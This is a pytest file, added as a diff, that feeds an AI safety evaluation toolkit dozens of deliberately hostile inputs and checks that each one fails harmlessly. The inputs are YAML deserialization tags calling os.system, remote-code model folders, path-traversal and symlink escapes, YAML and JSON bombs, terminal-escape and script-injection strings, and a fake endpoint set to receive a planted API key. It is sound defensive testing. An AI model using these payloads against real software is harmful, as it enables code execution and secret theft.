@@ -1,0 +1,557 @@
+"""Everything a stranger may hand over, each with five payloads, through the verb that opens it.
+
+    rows: (SURFACE, PAYLOAD) -> a function that spoils what lies in `folder` and gives the command line
+
+Payloads: code, send (a secret, an address, the hub), escape (out of the folder), bomb (depth, size, numbers), drive
+(the terminal, markup, odd types). Whatever the row, nothing runs, no socket opens, the secret stays unread, there is no
+traceback, and memory and time are bounded: `warden.py` watches. A new row is one function.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import zipfile
+from collections.abc import Callable
+from itertools import pairwise
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+from safetensors.numpy import save_file
+
+from holisafe.benchmarks import open_benchmark
+from holisafe.evaluation import evaluate
+from holisafe.guard.folders import shipped_folder
+from holisafe.judges import open_judge
+from holisafe.records import GenerationSettings
+from holisafe.targets import open_target
+from warden import SECRET_FILE
+
+TESTS = Path(__file__).parent
+SECRET = "correct-horse-battery-staple"
+EVIL = "https://203.0.113.7/v1"
+DRIVE = "\x1b]0;owned\x07\x1b[2J[red]boo[/] <script>alert(1)</script>\r\u202eevil\u2066"
+"""Escape codes, a bell, rich's and HTML's markup, a carriage return, turned text."""
+
+HALF = "\ud83d"
+"""Half a character, which no file in UTF-8 can hold, but JSON's escapes can."""
+
+DEEP = "[" * 100_000
+HUGE = "9" * 100_000
+PLAIN = ["judge", "{}", "--judge", "string-match:holisafe"]
+
+Row = Callable[[Path], list[str]]
+ROWS: dict[tuple[str, str], Row] = {}
+
+
+def row(surface: str, payload: str) -> Callable[[Row], Row]:
+    def keep(function: Row) -> Row:
+        assert (surface, payload) not in ROWS
+        ROWS[surface, payload] = function
+        return function
+
+    return keep
+
+
+def edit(path: Path, change: Callable[[Any], None]) -> None:
+    value = json.loads(path.read_text())
+    change(value)
+    path.write_text(json.dumps(value))
+
+
+def hostile_model(folder: Path) -> Path:
+    """A model folder whose own code leaves a mark; without weights worth the name."""
+    model = folder / "model"
+    shutil.copytree(shipped_folder(), model)
+    (model / "evil.py").write_text("raise SystemExit('code of the stranger ran')\n")
+    own = {"AutoConfig": "evil.C", "AutoModelForImageTextToText": "evil.M", "AutoProcessor": "evil.P"}
+    edit(model / "config.json", lambda config: config.update(auto_map=own, model_type="evil"))
+    return model
+
+
+# A run folder: `run` is a good one, of three pairs.
+
+
+def judged(folder: Path, spec: str) -> list[str]:
+    def change(manifest: Any) -> None:
+        manifest["judges"]["theirs"] = "1"
+        manifest["judge_specs"]["theirs"] = spec
+
+    edit(folder / "run" / "manifest.json", change)
+    return ["judge", str(folder / "run"), "--judge", "string-match:holisafe"]
+
+
+@row("run", "code")
+def _(folder: Path) -> list[str]:
+    return judged(folder, f"llm/holisafe/hf/{hostile_model(folder)},trust_remote_code=true")
+
+
+@row("run", "send")
+def _(folder: Path) -> list[str]:
+    return judged(folder, f"llm/holisafe/openai/m,base_url={EVIL},key=PLANTED_SECRET")
+
+
+@row("run", "send: hub")
+def _(folder: Path) -> list[str]:
+    edit(folder / "run" / "manifest.json", lambda manifest: manifest["benchmark"].update(root="hub:evil/data"))
+    return ["report", str(folder / "run")]
+
+
+@row("run", "escape")
+def _(folder: Path) -> list[str]:
+    edit(
+        folder / "run" / "manifest.json",
+        lambda manifest: manifest["benchmark"].update(reader="table", root="/dev/zero"),
+    )
+    return ["report", str(folder / "run")]
+
+
+@row("run", "escape: link to write through")
+def _(folder: Path) -> list[str]:
+    (folder / "run" / "report.html").symlink_to(folder.parent / SECRET_FILE)
+    return ["report", str(folder / "run")]
+
+
+@row("run", "escape: link to read through")
+def _(folder: Path) -> list[str]:
+    (folder / "run" / "verdicts.jsonl").unlink()
+    (folder / "run" / "verdicts.jsonl").symlink_to(folder.parent / SECRET_FILE)
+    return ["judge", str(folder / "run"), "--judge", "string-match:holisafe"]
+
+
+@row("run", "escape: pipe")
+def _(folder: Path) -> list[str]:
+    (folder / "run" / "scores.json").unlink()
+    os.mkfifo(folder / "run" / "scores.json")
+    return ["report", str(folder / "run")]
+
+
+@row("run", "bomb")
+def _(folder: Path) -> list[str]:
+    (folder / "run" / "manifest.json").write_text(DEEP)
+    return ["compare", str(folder / "run"), str(folder / "run")]
+
+
+@row("run", "bomb: number")
+def _(folder: Path) -> list[str]:
+    with (folder / "run" / "responses.jsonl").open("a") as file:
+        file.write(f'{{"schema": 1, "sample_id": "x", "target": "t", "text": "", "cost": {HUGE}}}\n')
+    return ["judge", str(folder / "run"), "--judge", "string-match:holisafe"]
+
+
+@row("run", "bomb: schema")
+def _(folder: Path) -> list[str]:
+    with (folder / "run" / "verdicts.jsonl").open("a") as file:
+        file.write('{"schema": 99}\n')
+    return ["agreement", str(folder / "run")]
+
+
+def driven(folder: Path) -> str:
+    """The run with every name a terminal's and a page's enemy."""
+    run = folder / "run"
+
+    def change(manifest: Any) -> None:
+        manifest["benchmark"]["name"] = manifest["target"]["name"] = DRIVE
+        manifest["judges"][DRIVE] = "1"
+        manifest["judge_specs"][DRIVE] = DRIVE
+
+    edit(run / "manifest.json", change)
+    for name, fields in (
+        ("samples.jsonl", ("category", "subcategory", "combination")),
+        ("responses.jsonl", ("target", "text", "reasoning")),
+        ("verdicts.jsonl", ("raw", "choice", "judge")),
+    ):
+        lines = [json.loads(line) for line in (run / name).read_text().splitlines()]
+        known = {"combination", "judge"}
+        for line in lines:
+            line.update({field: DRIVE for field in fields if field not in known})
+            if "meta" in line or name == "samples.jsonl":
+                line["meta"] = {**line.get("meta", {}), "task": DRIVE, "condition": DRIVE, "slot": DRIVE}
+        more = [{**line, "judge": DRIVE, "judge_version": "1"} for line in lines if "judge" in line]
+        (run / name).write_text("".join(json.dumps(line) + "\n" for line in [*lines, *more]))
+    edit(run / "scores.json", lambda scores: scores["judges"].update({DRIVE: next(iter(scores["judges"].values()))}))
+    return str(run)
+
+
+for VERB, ARGUMENTS in {
+    "report": ["report", "RUN"],
+    "compare": ["compare", "RUN", "COPY"],
+    "leaderboard": ["leaderboard", "RUN", "COPY"],
+    "agreement": ["agreement", "RUN"],
+    "judge": ["judge", "RUN", "--judge", "string-match:holisafe"],
+    "export": ["export", "RUN", "--out", "RUN.csv"],
+}.items():
+
+    @row("run", f"drive: {VERB}")
+    def _(folder: Path, arguments: list[str] = ARGUMENTS) -> list[str]:
+        run = driven(folder)
+        shutil.copytree(run, f"{run}-copy")
+        return [word.replace("RUN", run).replace("COPY", f"{run}-copy") for word in arguments]
+
+
+@row("run", "drive: half a character")
+def _(folder: Path) -> list[str]:
+    with (folder / "run" / "responses.jsonl").open("a") as file:
+        file.write(json.dumps({"schema": 1, "sample_id": HALF, "target": HALF, "text": HALF}) + "\n")
+    return ["judge", str(folder / "run"), "--judge", "string-match:holisafe"]
+
+
+@row("run", "drive: types")
+def _(folder: Path) -> list[str]:
+    lines = (folder / "run" / "samples.jsonl").read_text().splitlines()
+    odd = [{**json.loads(line), "category": [{}], "meta": 3, "images": {"a": 1}} for line in lines]
+    (folder / "run" / "samples.jsonl").write_text("".join(json.dumps(line) + "\n" for line in odd))
+    return ["report", str(folder / "run")]
+
+
+# A learned file.
+
+
+def learned(folder: Path, **header: Any) -> Path:
+    tensors = {"safe": np.arange(100.0), "unsafe": np.arange(100.0)}
+    facts = {"schema": 1, "method": "guarded", "temperature": 1.0, **header}
+    save_file(tensors, folder / "learned.safetensors", metadata={"holisafe": json.dumps(facts)})
+    return folder / "learned.safetensors"
+
+
+def calibrated(folder: Path, **header: Any) -> list[str]:
+    spec = f"guarded,guard={learned(folder, **header)},apply=reminder"
+    answers = f"replay/{folder / 'run' / 'responses.jsonl'}"
+    out = str(folder / "out")
+    return ["run", "pictosafe", "--target", answers, "--calibrate", spec, "--judge", "string-match", "--out", out]
+
+
+@row("learned", "code")
+def _(folder: Path) -> list[str]:
+    return [*calibrated(folder, reader=f"hf/{hostile_model(folder)},trust_remote_code=true"), "--dry-run"]
+
+
+@row("learned", "send")
+def _(folder: Path) -> list[str]:
+    return calibrated(folder, reader=f"openai/m,base_url={EVIL},key=PLANTED_SECRET")
+
+
+@row("learned", "escape")
+def _(folder: Path) -> list[str]:
+    (folder / "learned.safetensors").symlink_to("/dev/zero")
+    return ["calibrate", "show", str(folder / "learned.safetensors")]
+
+
+@row("learned", "bomb")
+def _(folder: Path) -> list[str]:
+    (folder / "learned.safetensors").write_bytes((2**62).to_bytes(8, "little") + b"{" * 10_000)
+    return ["calibrate", "show", str(folder / "learned.safetensors")]
+
+
+@row("learned", "drive")
+def _(folder: Path) -> list[str]:
+    return ["calibrate", "show", str(learned(folder, options={DRIVE: [DRIVE]}, method=DRIVE, model=DRIVE))]
+
+
+@row("learned", "drive: types")
+def _(folder: Path) -> list[str]:
+    return calibrated(folder, temperature={"a": []}, reader=None)
+
+
+# A file that the user names to be carried out: a run's, a sweep's, a recipe.
+
+
+def run_yaml(folder: Path, text: str) -> list[str]:
+    (folder / "run.yaml").write_text(text, errors="surrogatepass")
+    return ["run", str(folder / "run.yaml"), "--dry-run"]
+
+
+@row("yaml", "code")
+def _(folder: Path) -> list[str]:
+    target = f"hf/{hostile_model(folder)},trust_remote_code=true"
+    return run_yaml(folder, f"benchmark: pictosafe\ntarget: '{target}'\njudges: [string-match]\nout: x\n")
+
+
+@row("yaml", "code: python")
+def _(folder: Path) -> list[str]:
+    return run_yaml(folder, "benchmark: !!python/object/apply:os.system ['true']\n")
+
+
+@row("yaml", "send")
+def _(folder: Path) -> list[str]:
+    judge = f"llm/holisafe/openai/m,base_url={EVIL},key=PLANTED_SECRET"
+    return run_yaml(folder, f"benchmark: pictosafe\ntarget: replay/x.jsonl\njudges: ['{judge}']\nout: x\n")
+
+
+@row("yaml", "escape")
+def _(folder: Path) -> list[str]:
+    os.mkfifo(folder / "run.yaml")
+    return ["run", str(folder / "run.yaml")]
+
+
+@row("yaml", "bomb")
+def _(folder: Path) -> list[str]:
+    names = "abcdefghijkl"
+    lines = [f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in pairwise(names)]
+    return run_yaml(folder, "\n".join(["a: &a [x]", *lines]))
+
+
+@row("yaml", "drive")
+def _(folder: Path) -> list[str]:
+    return run_yaml(
+        folder, json.dumps({"benchmark": DRIVE, "target": DRIVE, "judges": [DRIVE], "out": DRIVE, DRIVE: 1})
+    )
+
+
+@row("sweep", "code")
+def _(folder: Path) -> list[str]:
+    fit = {"data": "pictosafe", "options": {"reader": f"hf/{hostile_model(folder)},trust_remote_code=true"}}
+    config = {
+        "target": "hf/pictovlm",
+        "out": str(folder / "out"),
+        "safety": {"benchmark": "pictosafe", "choose": "validation", "report": "test"},
+        "methods": [{"method": "guarded,apply=reminder", "fit": fit}],
+    }
+    (folder / "sweep.yaml").write_text(json.dumps(config))
+    return ["calibrate", "sweep", str(folder / "sweep.yaml"), "--limit", "2"]
+
+
+@row("recipe", "code")
+def _(folder: Path) -> list[str]:
+    (folder / "recipe.yaml").write_text("seed: !!python/name:os.system\n")
+    return ["tune", "--base", "pictovlm", "--recipe", str(folder / "recipe.yaml"), "--dry-run"]
+
+
+@row("recipe", "bomb")
+def _(folder: Path) -> list[str]:
+    (folder / "recipe.yaml").write_text("seed: " + HUGE)
+    return ["tune", "--base", "pictovlm", "--recipe", str(folder / "recipe.yaml"), "--dry-run"]
+
+
+# A model's folder.
+
+
+def asked(model: Path | str) -> list[str]:
+    out = str(Path(model).parent / "out")
+    return ["run", "pictosafe", "--target", f"hf/{model}", "--judge", "string-match", "--limit", "1", "--out", out]
+
+
+@row("model", "code")
+def _(folder: Path) -> list[str]:
+    return asked(hostile_model(folder))
+
+
+@row("model", "code: pickle")
+def _(folder: Path) -> list[str]:
+    model = folder / "model"
+    shutil.copytree(shipped_folder(), model)
+    (model / "model.safetensors").rename(model / "pytorch_model.bin")
+    return asked(model)
+
+
+@row("model", "code: kernel")
+def _(folder: Path) -> list[str]:
+    model = folder / "model"
+    shutil.copytree(shipped_folder(), model)
+    edit(model / "config.json", lambda config: config["text_config"].update(attn_implementation="evil/kernel"))
+    return asked(model)
+
+
+@row("model", "send")
+def _(folder: Path) -> list[str]:
+    model = folder / "adapter"
+    model.mkdir()
+    (model / "adapter_config.json").write_text(
+        json.dumps({"peft_type": "LORA", "base_model_name_or_path": "evil/base"})
+    )
+    save_file({"x": np.zeros(1)}, model / "adapter_model.safetensors")
+    return asked(model)
+
+
+@row("model", "escape")
+def _(folder: Path) -> list[str]:
+    model = folder / "model"
+    shutil.copytree(shipped_folder(), model)
+    (model / "model.safetensors").unlink()
+    index = {"weight_map": {"x": "../../secret.txt"}}
+    (model / "model.safetensors.index.json").write_text(json.dumps(index))
+    return asked(model)
+
+
+@row("model", "bomb")
+def _(folder: Path) -> list[str]:
+    model = folder / "model"
+    shutil.copytree(shipped_folder(), model)
+    (model / "config.json").write_text('{"a": ' + DEEP)
+    return asked(model)
+
+
+@row("model", "drive")
+def _(folder: Path) -> list[str]:
+    model = folder / "model"
+    shutil.copytree(shipped_folder(), model)
+    edit(model / "config.json", lambda config: config.update(model_type=DRIVE, architectures=[DRIVE]))
+    return asked(model)
+
+
+# Inspect's logs.
+
+
+def log(folder: Path, **members: str) -> list[str]:
+    with zipfile.ZipFile(folder / "log.eval", "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, text in members.items():
+            archive.writestr(name.replace("__", "/") + ".json", text.encode("utf-8", "surrogatepass"))
+    return ["import", "inspect", str(folder / "log.eval"), "--out", str(folder / "out.jsonl")]
+
+
+@row("log", "bomb")
+def _(folder: Path) -> list[str]:
+    return log(folder, header=DEEP)
+
+
+@row("log", "escape")
+def _(folder: Path) -> list[str]:
+    return log(folder, **{"../../header": "{}", "header": "{}"})
+
+
+@row("log", "drive")
+def _(folder: Path) -> list[str]:
+    return log(folder, header=json.dumps({"version": 2, "status": DRIVE, "eval": {"model": DRIVE}}))
+
+
+# Tables, rubrics, a benchmark's folder.
+
+
+@row("table", "drive")
+def _(folder: Path) -> list[str]:
+    header, cells = "id,query,expected,category", [f'"{DRIVE}"'] * 4
+    (folder / "t.csv").write_text(f"{header}\n{','.join(cells)}\n", errors="replace", newline="")
+    return ["data", "check", "table", "--root", str(folder / "t.csv")]
+
+
+@row("table", "escape")
+def _(folder: Path) -> list[str]:
+    (folder / "t.csv").write_text(f"query,expected,image\nq,answer,../{SECRET_FILE}\n")
+    return ["data", "check", "table", "--root", str(folder / "t.csv")]
+
+
+@row("table", "bomb")
+def _(folder: Path) -> list[str]:
+    (folder / "t.jsonl").write_text('{"query": ' + DEEP + "\n")
+    return ["data", "check", "table", "--root", str(folder / "t.jsonl")]
+
+
+@row("table", "code")
+def _(folder: Path) -> list[str]:
+    (folder / "t.csv").write_text("query,expected\nq,answer\n")
+    (folder / "t.csv.yaml").write_text("query: !!python/object/apply:os.system ['true']\n")
+    return ["data", "check", "table", "--root", str(folder / "t.csv")]
+
+
+def rubric(folder: Path, front: str) -> list[str]:
+    (folder / "r.md").write_text(f"---\n{front}\n---\n{{{{ query }}}} {{{{ response }}}}\n", errors="replace")
+    answers = folder / "run" / "responses.jsonl"
+    judge = f"llm/{folder / 'r.md'}/replay/{answers}"
+    return ["judge", str(folder / "run"), "--judge", judge]
+
+
+@row("rubric", "code")
+def _(folder: Path) -> list[str]:
+    return rubric(folder, "name: !!python/object/apply:os.system ['true']")
+
+
+@row("rubric", "bomb")
+def _(folder: Path) -> list[str]:
+    return rubric(folder, f"name: {DEEP}")
+
+
+@row("rubric", "drive")
+def _(folder: Path) -> list[str]:
+    return rubric(folder, f"name: {json.dumps(DRIVE)}\nversion: 1\nsource: x\nlabels: {{a: refused, b: answered}}")
+
+
+def bench(folder: Path, change: Callable[[dict[str, Any]], None]) -> list[str]:
+    root = folder / "bench"
+    (root / "images").mkdir(parents=True)
+    record = {
+        "id": 1, "type": "SSU", "category": "safe", "subcategory": "safe", "image": "a.png", "query": "q",
+        "image_safe": True, "image_safety_label": "safe",
+    }  # fmt: skip
+    change(record)
+    (root / "holisafe_bench.json").write_text(json.dumps([record]))
+    return ["data", "check", "holisafe-bench", "--root", str(root)]
+
+
+@row("benchmark", "escape")
+def _(folder: Path) -> list[str]:
+    return bench(folder, lambda record: record.update(image=f"../../../{SECRET_FILE}"))
+
+
+@row("benchmark", "escape: link")
+def _(folder: Path) -> list[str]:
+    command = bench(folder, lambda record: record.update(image="a.png"))
+    (folder / "bench" / "images" / "a.png").symlink_to(folder.parent / SECRET_FILE)
+    return command
+
+
+@row("benchmark", "send")
+def _(folder: Path) -> list[str]:
+    return bench(folder, lambda record: record.update(image=f"{EVIL}/a.png"))
+
+
+@row("benchmark", "drive")
+def _(folder: Path) -> list[str]:
+    return bench(folder, lambda record: record.update(dict.fromkeys([*record, DRIVE], DRIVE)))
+
+
+@row("benchmark", "bomb")
+def _(folder: Path) -> list[str]:
+    command = bench(folder, lambda record: None)
+    (folder / "bench" / "holisafe_bench.json").write_text(DEEP)
+    return command
+
+
+NEEDS_A_MODEL = {"model", "recipe", "sweep"}
+
+
+@pytest.fixture(scope="module")
+def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A finished run of three pairs."""
+    folder = tmp_path_factory.mktemp("good")
+    benchmark = open_benchmark("pictosafe", split="test")
+    (folder / "answers.csv").write_text("id,response\n" + "".join(f"{s.id},Sorry.\n" for s in benchmark.samples))
+    target = open_target(f"replay/{folder / 'answers.csv'}", GenerationSettings())
+    evaluate(benchmark, target, [open_judge("string-match")], folder / "run", limit=3)
+    return folder / "run"
+
+
+@pytest.mark.parametrize("name", ROWS, ids=" ".join)
+def test_a_strangers_file_does_nothing_but_fail(name: tuple[str, str], good: Path, tmp_path: Path) -> None:
+    folder, report = tmp_path / "theirs", tmp_path / "report.txt"
+    (tmp_path / SECRET_FILE).write_text(SECRET)
+    shutil.copytree(good, folder / "run")
+    command = [sys.executable, str(TESTS / "warden.py"), str(report), str(folder), "12", "--", *ROWS[name](folder)]
+    environment = {
+        **os.environ, "PLANTED_SECRET": SECRET, "OPENAI_API_KEY": SECRET, "HF_TOKEN": SECRET, "OMP_NUM_THREADS": "1",
+        "HF_HOME": str(tmp_path / "hub"), "PYTHONHASHSEED": "0",
+    }  # fmt: skip
+    done = subprocess.run(
+        command, capture_output=True, env=environment, stdin=subprocess.DEVNULL, timeout=400, check=False
+    )
+    out, err = done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
+    said = f"{command[7:]}\n{out}\n{err}"
+    assert not report.exists() or report.read_text() == "", report.read_text() + said
+    assert done.returncode in (0, 2, 3), said
+    assert "Traceback" not in err, said
+    assert SECRET not in said
+    assert (tmp_path / SECRET_FILE).read_text() == SECRET
+    for text in (out, err):
+        odd = {c for c in text if (ord(c) < 32 and c not in "\n\t") or ord(c) == 127 or c in "\u202e\u2066"}
+        assert not odd, said
+    if done.returncode == 2:
+        assert err.count("holisafe: ") >= 1 or out, said
+    for file in folder.rglob("*"):
+        if file.is_file() and not file.is_symlink():
+            content = file.read_bytes()
+            assert SECRET.encode() not in content, file
+            assert b"<script>alert(1)" not in content or file.suffix != ".html", file
